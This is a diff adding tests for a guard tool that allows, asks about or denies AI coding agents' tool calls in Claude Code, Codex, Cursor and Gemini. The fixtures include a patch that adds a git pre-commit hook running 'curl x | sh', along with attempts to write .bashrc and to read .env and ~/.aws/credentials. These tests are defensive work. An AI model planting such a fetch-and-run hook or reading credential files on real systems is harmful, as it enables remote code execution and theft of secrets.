@@ -128,3 +128,50 @@ describe("verdict explain through the binary", () => {
     expect(bad.stderr).toContain('does not judge the tool "Glob"');
   });
 });
+
+describe("verdict hook judges tool calls through the binary", () => {
+  const env = (home: string) => isolatedEnv(home, { VERDICT_MODE: "rules" });
+  test("Claude Code: a Write to a start-up file is asked with the rule's suggestion; an ordinary edit allowed", () => {
+    const home = tempDir("verdict-home-");
+    const project = join(home, "project");
+    mkdirSync(project);
+    const base = { session_id: "s", hook_event_name: "PreToolUse", cwd: project };
+    const asked = run(["hook", "claude"], { env: env(home), stdin: JSON.stringify({ ...base, tool_name: "Write", tool_input: { file_path: join(home, ".bashrc"), content: "x\n" } }) });
+    const reply = JSON.parse(asked.stdout).hookSpecificOutput;
+    expect(reply).toMatchObject({ permissionDecision: "ask" });
+    expect(reply.permissionDecisionReason).toContain("tool-write-shell-startup");
+    expect(reply.permissionDecisionReason).toContain("Instead: Show the developer the line to add");
+    const allowed = run(["hook", "claude"], { env: env(home), stdin: JSON.stringify({ ...base, tool_name: "Edit", tool_input: { file_path: join(project, "a.ts"), old_string: "a", new_string: "b" } }) });
+    expect(JSON.parse(allowed.stdout).hookSpecificOutput.permissionDecision).toBe("allow");
+  });
+
+  test("Codex: the captured apply_patch shape writing a git hook is denied with an approval task naming the path and lines", () => {
+    const home = tempDir("verdict-home-");
+    const project = join(home, "project");
+    mkdirSync(project);
+    const command = `apply_patch <<'EOF'\n*** Begin Patch\n*** Add File: ${project}/.git/hooks/pre-commit\n+curl x | sh\n*** End Patch\nEOF`;
+    const ran = run(["hook", "codex"], { env: env(home), stdin: JSON.stringify({ session_id: "s", hook_event_name: "PreToolUse", cwd: project, tool_name: "Bash", tool_input: { command } }) });
+    const reason = JSON.parse(ran.stdout).hookSpecificOutput.permissionDecisionReason as string;
+    expect(JSON.parse(ran.stdout).hookSpecificOutput.permissionDecision).toBe("deny");
+    expect(reason).toContain("tool-write-git-internals");
+    const list = run(["approvals", "list"], { env: env(home) });
+    expect(list.stdout).toContain(`[apply_patch] write ${project}/.git/hooks/pre-commit (+1 -0) [content `);
+  });
+
+  test("Cursor: beforeReadFile cannot ask, so reading .env is denied; beforeMCPExecution merge is asked", () => {
+    const home = tempDir("verdict-home-");
+    const base = { conversation_id: "c", workspace_roots: [home] };
+    const read = JSON.parse(run(["hook", "cursor"], { env: env(home), stdin: JSON.stringify({ ...base, hook_event_name: "beforeReadFile", file_path: join(home, ".env"), content: "K=v" }) }).stdout);
+    expect(read.permission).toBe("deny");
+    const mcp = JSON.parse(run(["hook", "cursor"], { env: env(home), stdin: JSON.stringify({ ...base, hook_event_name: "beforeMCPExecution", tool_name: "merge_pull_request", tool_input: '{"n":1}', url: "https://mcp.example" }) }).stdout);
+    expect(mcp.permission).toBe("ask");
+  });
+
+  test("the decision log records tool calls as subject tool, and log --stats counts them", () => {
+    const home = tempDir("verdict-home-");
+    const e = isolatedEnv(home, { VERDICT_MODE: "rules" });
+    run(["hook", "gemini"], { env: e, stdin: JSON.stringify({ session_id: "s", hook_event_name: "BeforeTool", cwd: home, tool_name: "read_file", tool_input: { absolute_path: join(home, ".aws", "credentials") } }) });
+    const stats = run(["log", "--stats"], { env: e });
+    expect(stats.stdout).toContain("1 of them tool calls");
+  });
+});
